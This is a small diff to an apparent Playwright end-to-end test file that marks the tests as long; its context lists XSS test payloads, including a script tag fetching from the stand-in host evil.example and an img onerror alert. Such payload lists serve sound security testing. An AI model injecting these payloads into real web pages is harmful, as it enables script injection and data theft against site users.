@@ -5,6 +5,8 @@ from playwright.async_api import expect
 
 from tests.e2e.conftest import Desk
 
+pytestmark = pytest.mark.long
+
 SCRIPTS = [
     "<script>fetch('//evil.example')</script>",
     "<img src=x onerror=alert(1)>",
